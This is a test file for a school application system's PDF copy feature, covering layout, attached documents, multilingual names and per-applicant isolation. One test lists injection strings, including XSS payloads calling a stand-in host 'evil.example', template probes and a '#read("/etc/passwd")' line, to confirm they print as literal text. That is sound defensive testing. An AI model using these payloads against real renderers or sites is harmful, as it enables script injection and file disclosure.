import { spawnSync } from 'node:child_process'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expectSound } from '@apply/converter/testing/expect-sound'
import { plainPdf } from '@apply/converter/testing/pdfs'
import { draftOf } from '@apply/engine/answers'
import { readOnlyView } from '@apply/engine/read-only'
import { form, school } from '@apply/forms/governors-choice'
import { afterAll, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest'
import { completeDraft } from '../../../forms/governors-choice/testing/applicant.ts'
import { emptyTables, testDatabase } from '../../testing/databases.ts'
import { createTestServer, type TestServer, type TestStudent } from '../../testing/test-server.ts'
import { completeAnswers } from '../application/draft/testing/complete-answers.ts'
import { type PrintWorld, printWorld } from './testing/print-world.ts'
import { readCopy, withoutSpace } from './testing/read-copy.ts'

let world: PrintWorld
beforeAll(async () => {
  world = await printWorld(await testDatabase())
}, 60_000)
afterAll(() => world.close())

const linesOf = (draft: typeof completeDraft): readonly string[] =>
  readOnlyView(form, draft).flatMap(({ title, parts }) => [
    title,
    ...parts.flatMap(({ headings, lines }) => [
      headings.join(' · '),
      ...lines.flatMap(({ label, text, terms = [] }) => [
        ...terms.flatMap(({ heading, paragraphs }) => [heading, ...paragraphs]),
        ...[label, text],
      ]),
    ]),
  ])

describe('a full application with a document', () => {
  let copy: Awaited<ReturnType<typeof readCopy>>
  let email: string
  const name = 'Mateo José Núñez'
  const draft = {
    ...completeDraft,
    tabs: { ...completeDraft.tabs },
    answers: { ...completeDraft.answers, homeschool_radio: 'Y', homeschool: 'grades.docx' },
  }
  beforeAll(async () => {
    const folder = await mkdtemp(join(tmpdir(), 'test-document-'))
    await writeFile(join(folder, 'grades.pdf'), await plainPdf(3))
    const applicant = await world.applicant(draft)
    email = await world.emailOf(applicant)
    await world.attach(applicant, 'homeschool', 'grades.docx', join(folder, 'grades.pdf'))
    copy = await readCopy(await world.print(applicant))
    await rm(folder, { recursive: true })
  })

  test('PDF-08 PDF-11 prints a heading and exactly the text of the read-only view', () => {
    const printed = copy.pages.slice(0, -3).map(({ text }) => text)

    expect(withoutSpace(printed.join(' '))).toBe(
      withoutSpace([school.name, form.title, name, email, ...linesOf(draft)].join(' ')),
    )
    expect(printed.join(' ')).toContain('About You')
    expect(linesOf(draft).length).toBeGreaterThan(200)
  })

  test('PDF-05 every page has Letter size and its number out of all pages of the file', () => {
    const printed = copy.pages.length - 3

    expect(copy.pages.map(({ size }) => size)).toEqual(copy.pages.map(() => [0, 0, 612, 792]))
    expect(copy.pages.slice(0, printed).map(({ foot }) => foot)).toEqual(
      Array.from({ length: printed }, (_, index) =>
        expect.stringMatching(new RegExp(`Not submitted yet.*Page\\s+${index + 1}\\s+of\\s+${copy.pages.length}$`)),
      ),
    )
  })

  test('PDF-06 appends the document with a bookmark', () => {
    expect(copy.pages.slice(-3).map(({ text }) => text)).toEqual([
      'Transcript of Zoe, page 1',
      'Transcript of Zoe, page 2',
      'Transcript of Zoe, page 3',
    ])
    expect(copy.bookmarks).toEqual(expect.arrayContaining(['  About You', '  Your Academics', '  Final Steps']))
    expect(copy.bookmarks.at(-1)).toMatch(/^\S.* \(grades\.docx\)$/)
  })

  test('WID-16 PDF-08 the answer of a file question says that the document is attached', () => {
    expect(withoutSpace(copy.pages.map(({ text }) => text).join(' '))).toContain('Documentattachedforhomeschool')
  })

  test('PDF-07 the copy is tagged, and has a title and a language', () => {
    expect(copy.isMarked).toBe(true)
    expect(copy.pages[0]?.tags).toEqual(expect.arrayContaining(['Document', 'H1', 'H2', 'H3']))
    expect(copy.info).toMatchObject({ Title: `${form.title} · ${name}`, Language: 'en-US' })
  })
})

test('PDF-15 a damaged, an unreadable and a missing document are each named on a page of their own; the others follow', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'test-document-'))
  onTestFinished(() => rm(folder, { recursive: true }))
  const path = (name: string) => join(folder, name)
  await writeFile(path('sound.pdf'), await plainPdf(2))
  await writeFile(path('other.pdf'), await plainPdf(1))
  await writeFile(path('no.pdf'), 'no PDF at all')
  const applicant = await world.applicant(draftOf({ first_name: 'Zoe' }))
  await world.attach(applicant, 'damaged', 'Łódź.pdf', path('other.pdf'), 'a'.repeat(64))
  await world.attach(applicant, 'ged', 'scores.pdf', path('sound.pdf'))
  expect(await world.printsAll(applicant)).toBe(false)
  await world.attach(applicant, 'unreadable', 'old.pdf', path('no.pdf'))
  await world.attach(applicant, 'missing', 'gone.pdf', path('other.pdf'))
  await world.lose(applicant, 'missing')

  const copy = await world.print(applicant)

  await expectSound(copy)
  const { pages, bookmarks } = await readCopy(copy)
  expect(pages.slice(-2).map(({ text }) => text)).toEqual(['Transcript of Zoe, page 1', 'Transcript of Zoe, page 2'])
  const named = pages.slice(-5, -2)
  for (const [index, name] of ['Łódź.pdf', 'gone.pdf', 'old.pdf'].entries()) {
    expect(named[index]?.text).toContain(name)
    expect(withoutSpace(named[index]?.text ?? '')).toContain('Thisdocumentisnotinthiscopy')
    expect(withoutSpace(named[index]?.foot ?? '')).toContain(`Page${pages.length - 4 + index}of${pages.length}`)
  }
  expect(bookmarks.filter((title) => /Łódź|gone|old|scores/.test(title))).toEqual([
    '  damaged (Łódź.pdf)',
    '  missing (gone.pdf)',
    '  unreadable (old.pdf)',
    expect.stringContaining('(scores.pdf)'),
  ])
  expect(world.logged()).toMatch(/"documents":3.*Documents could not be added to a PDF copy/)
  expect(world.logged()).not.toMatch(/gone\.pdf|Zoe/)
})

test('PDF-15 while the storage cannot be read, no copy is printed without its documents', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'test-document-'))
  onTestFinished(() => rm(folder, { recursive: true }))
  await writeFile(join(folder, 'a.pdf'), await plainPdf(1))
  const applicant = await world.applicant(draftOf({ first_name: 'Zoe' }))
  await world.attach(applicant, 'ged', 'scores.pdf', join(folder, 'a.pdf'))

  await expect(world.printWhileUnreadable(applicant)).rejects.toThrow('The storage is away.')
})

const names = [
  ['Latin', 'Žofie Łukasiewicz-Đặng Ngô Ø’Brien'],
  ['Greek', 'Ελένη Παπαδοπούλου'],
  ['Cyrillic', 'Сергій Щербина'],
  ['Arabic', 'محمد'],
  ['Hebrew', 'דוד'],
  ['Devanagari', 'कमला'],
  ['Chinese', '王小明 張偉'],
  ['Japanese', '山田さくら'],
  ['Korean', '김민준'],
  ['Thai', 'สมชาย'],
  ['Georgian', 'ნინო'],
  ['Armenian', 'Արամ'],
  ['Ethiopic', 'አበበ'],
] as const

const applicantOfTheWorld = () => {
  const [latin = '', greek = '', cyrillic = '', arabic = '', ...others] = names.map(([, name]) => name)
  const person = { first_name: latin, middle_name: greek, last_name: cyrillic, preferred_name: arabic }
  return world.applicant(draftOf({ ...person, city: others.join(' / ') }))
}

/** This reader gives the letters as they stand on the paper, from left to right and in the shapes they have there. */
const asOnPaper = (name: string): string =>
  /[\p{Script=Arabic}\p{Script=Hebrew}]/u.test(name) ? [...name].toReversed().join('') : name

const hasPoppler = !spawnSync('pdftotext', ['-v']).error

describe('the names of the world', () => {
  let printed: Uint8Array
  beforeAll(async () => {
    printed = await world.print(await applicantOfTheWorld())
  })

  test('PDF-07 prints them with embedded fonts', async () => {
    const copy = await readCopy(printed)

    const text = withoutSpace(copy.pages.map((page) => page.text).join(' ')).normalize('NFKC')
    for (const [script, name] of names)
      expect(
        [name, asOnPaper(name)].some((written) => text.includes(withoutSpace(written))),
        script,
      ).toBe(true)
    expect(copy.fonts.all).toBeGreaterThan(5)
    expect(copy.fonts.embedded).toBe(copy.fonts.all)
  })

  test.skipIf(!hasPoppler)('PDF-07 names in every script can be searched and read aloud', () => {
    const { stdout } = spawnSync('pdftotext', ['-', '-'], { input: printed, encoding: 'utf8' })

    const text = withoutSpace(stdout.replace(/[\u202a-\u202e]/g, ''))
    for (const [script, name] of names) expect(text, script).toContain(withoutSpace(name))
  })
})

const injections = [
  '<img src="http://evil.example/1.png" onerror="fetch(\'http://evil.example/2\')">',
  '<script src="http://evil.example/3.js"></script>',
  '"><svg/onload=import("http://evil.example/4")>',
  '</title><link rel=stylesheet href=http://evil.example/5.css>',
  'javascript:alert(1) {{7*7}} <%= 7*7 %> <!--',
  '= Heading *bold* _slanted_ `raw` $x^2$ <label> @reference',
  '#panic("out") #read("/etc/passwd") #import "@preview/cetz:0.4.0"',
  '"; \\u{41} \\ // /* comment */ #{1 + 1} [x]',
]

test('PDF-08 prints markup and code as typed', async () => {
  const answers = { first_name: injections[0] ?? '', suspended: 'Y', suspended_comment: injections.join('\n') }

  const copy = await readCopy(await world.print(await world.applicant(draftOf(answers))))

  const text = withoutSpace(copy.pages.map((page) => page.text).join(' '))
  for (const injection of injections) expect(text).toContain(withoutSpace(injection))
})

test('PDF-04 a print reads only its own application and creates no token', async () => {
  const { sql } = await testDatabase()
  // Whatever is written into this table is refused from here on.
  await sql(`alter table service_tokens add constraint no_token_is_made check (account_id is null) not valid`)
  onTestFinished(() => sql('alter table service_tokens drop constraint no_token_is_made').then(() => undefined))
  const [ada, max] = await Promise.all(['Ada', 'Max'].map((first_name) => world.applicant(draftOf({ first_name }))))

  const texts = await Promise.all(
    [ada, max].map(async (applicant = '') => {
      const { pages } = await readCopy(await world.print(applicant))
      return pages.map(({ text }) => text).join(' ')
    }),
  )

  expect(texts).toEqual([expect.stringContaining('Ada'), expect.stringContaining('Max')])
  expect(texts[0]).not.toContain('Max')
  expect(texts[1]).not.toContain('Ada')
})

describe('a student who asks for a copy', () => {
  let whole: TestServer
  beforeAll(async () => {
    const database = await testDatabase()
    await emptyTables(database)
    whole = await createTestServer(database, { runsJobs: true })
  }, 60_000)
  afterAll(() => whole.close())

  const completed = async (student: TestStudent): Promise<string> => {
    const { status, url } = (await student.get('/api/pdf')).json()
    if (status === 'FAILED') throw new Error(whole.logged())
    expect(status).toBe('COMPLETED')
    return url
  }
  const fetchCopy = async (student: TestStudent) => {
    const url = await vi.waitFor(() => completed(student), { timeout: 45_000, interval: 100 })
    return readCopy((await student.get(url)).rawPayload)
  }

  test('PDF-01 PDF-05 PDF-12 gets a draft before the submission, and a copy with receipt and hash on every page after it', async () => {
    const zoe = await whole.student()
    await zoe.put('/api/answer', completeAnswers)
    const name = `${completeAnswers.first_name} ${completeAnswers.last_name}`
    const draft = await fetchCopy(zoe)
    const { receipt } = (await zoe.post('/api/submit')).json()

    const proof = await fetchCopy(zoe)

    expect(draft.info).toMatchObject({ Title: `${form.title} · ${name}` })
    expect(draft.pages.every(({ foot }) => foot.includes('Not submitted yet'))).toBe(true)
    expect(proof.info).toMatchObject({ Title: `${form.title} · ${receipt.number} · ${name}` })
    for (const { foot } of proof.pages) {
      expect(foot).toContain(receipt.number)
      expect(withoutSpace(foot)).toContain(receipt.sha256)
    }
    expect(proof.pages[0]?.text).toContain("O'Neil-")
    const accepted = proof.pages
      .at(-1)
      ?.text.match(/Yes,\s+accepted\s+on\s+January\s+15,\s+2026\s+at\s+12:00\s+PM\s+CST/g)
    expect(accepted).toHaveLength(2)
  })
})
